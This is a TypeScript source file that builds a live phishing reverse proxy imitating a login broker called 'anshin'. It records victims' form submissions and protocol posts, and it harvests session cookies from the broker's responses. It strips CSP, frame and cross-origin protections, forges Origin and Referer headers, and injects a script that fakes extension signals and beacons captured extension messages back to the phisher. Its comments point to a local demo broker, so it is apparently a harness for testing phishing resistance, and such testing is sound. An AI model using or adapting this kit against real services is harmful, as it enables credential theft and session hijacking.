import { createServer, type IncomingMessage, request, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What the phisher has got hold of so far, oldest first. */
export interface Loot {
  /** Every form that a victim sent, as typed. */
  readonly forms: readonly { readonly path: string; readonly fields: Readonly<Record<string, string>> }[];
  /** Live session cookies that the broker gave out through the proxy, ready to be used. */
  readonly sessions: readonly string[];
  /** Bodies that victims' browsers posted to the protocol's endpoints. */
  readonly proofs: readonly string[];
  /** Words of an extension that the phisher's script heard in victims' pages. */
  readonly words: readonly string[];
}

/** A live phishing proxy: the broker's own pages under another name, in real time. */
export interface PhishingKit extends AsyncDisposable {
  readonly origin: string;
  readonly loot: Loot;
}

const HOST_NAME = 'phish.localhost';
const WORD_PATH = '/phish/word';
const SCRIPT_PATH = '/phish/script.js';
const SESSION_COOKIE = /^__Host-anshin-session=([\w-]+)/;

/**
 * Tells the page that all is well, so that it looks and feels like the broker's own; reports every word that an extension
 * says; and tries the protocol by itself, through the proxy and at the broker.
 */
const scriptFor = (brokerOrigin: string): string => `
const say = (detail) => document.dispatchEvent(Object.assign(new CustomEvent('anshin-key:word', { detail }), { faked: true }));
document.addEventListener('anshin-key:word', ({ detail, faked }) => faked || navigator.sendBeacon('${WORD_PATH}', detail));
document.addEventListener('anshin-key:ask', () => say('ready'));
document.dispatchEvent(new CustomEvent('anshin-key:ask'));
const body = JSON.stringify({ v: 1, purpose: 'login', kids: [] });
fetch('/anshin/v1/challenge', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body });
fetch('${brokerOrigin}/anshin/v1/challenge', { method: 'POST', mode: 'no-cors', credentials: 'include', body });
`;

/**
 * @param brokerOrigin of the broker that is imitated; a demo broker on this machine
 * @param extensionOrigin whose `Origin` the proxy forges where the broker wants the extension's
 * @param address of the phisher, for a broker that stands behind a reverse proxy
 */
export async function phishingKit(
  brokerOrigin: string,
  extensionOrigin: string,
  address?: string,
): Promise<PhishingKit> {
  const loot = { forms: [], sessions: [], proofs: [], words: [] } as {
    -readonly [Kind in keyof Loot]: Loot[Kind][number][];
  };

  const serve = async (incoming: IncomingMessage, outgoing: ServerResponse): Promise<void> => {
    const path = incoming.url ?? '/';
    const body = await readAll(incoming);
    if (path === WORD_PATH) {
      loot.words.push(body.toString());
      outgoing.writeHead(204).end();
    } else if (path === SCRIPT_PATH) {
      outgoing.writeHead(200, { 'Content-Type': 'text/javascript' }).end(scriptFor(brokerOrigin));
    } else {
      steal(incoming.method ?? '', path, body);
      await relay(incoming, path, body, outgoing);
    }
  };

  const steal = (method: string, path: string, body: Buffer): void => {
    if (method !== 'POST') return;
    if (path.startsWith('/anshin/')) loot.proofs.push(body.toString());
    else loot.forms.push({ path, fields: Object.fromEntries(new URLSearchParams(body.toString())) });
  };

  const relay = async (
    incoming: IncomingMessage,
    path: string,
    body: Buffer,
    outgoing: ServerResponse,
  ): Promise<void> => {
    const { port, host } = new URL(brokerOrigin);
    const { promise, resolve, reject } = Promise.withResolvers<IncomingMessage>();
    const from = address === undefined ? {} : { 'x-forwarded-for': address };
    const headers = { ...incoming.headers, ...from, host, 'accept-encoding': 'identity' };
    if (incoming.headers.origin) headers.origin = path.startsWith('/anshin/') ? extensionOrigin : brokerOrigin;
    if (incoming.headers.referer) headers.referer = incoming.headers.referer.replace(origin(), brokerOrigin);
    request({ host: '127.0.0.1', port, method: incoming.method, path, headers }, resolve)
      .once('error', reject)
      .end(body);
    const response = await promise;
    for (const cookie of response.headers['set-cookie'] ?? []) {
      const session = SESSION_COOKIE.exec(cookie)?.[1];
      if (session !== undefined) loot.sessions.push(session);
    }
    outgoing.writeHead(response.statusCode ?? 502, disarmed(response));
    outgoing.end(rewritten(response, await readAll(response)));
  };

  const rewritten = (response: IncomingMessage, body: Buffer): Buffer | string => {
    if (!/^text\/|javascript/.test(response.headers['content-type'] ?? '')) return body;
    const text = body.toString().replaceAll(brokerOrigin, origin());
    return text.replace('</head>', `<script type="module" src="${SCRIPT_PATH}"></script></head>`);
  };

  /** The broker's headers without what protects its pages, and with its addresses under the phisher's name. */
  const disarmed = ({ headers }: IncomingMessage) => {
    const kept = Object.entries(headers).filter(([name]) => !UNWANTED.test(name));
    const { location } = headers;
    return { ...Object.fromEntries(kept), ...(location ? { location: location.replace(brokerOrigin, origin()) } : {}) };
  };

  const server = createServer((incoming, outgoing) => {
    serve(incoming, outgoing).catch(() => outgoing.destroy());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port: ownPort } = server.address() as AddressInfo;
  const origin = (): string => `http://${HOST_NAME}:${ownPort}`;

  return {
    origin: origin(),
    loot,
    [Symbol.asyncDispose]: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

const UNWANTED = /^(content-(security-policy|length|encoding)|x-frame-options|cross-origin-.*|connection|keep-alive)$/;

async function readAll(message: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of message) chunks.push(chunk);
  return Buffer.concat(chunks);
}
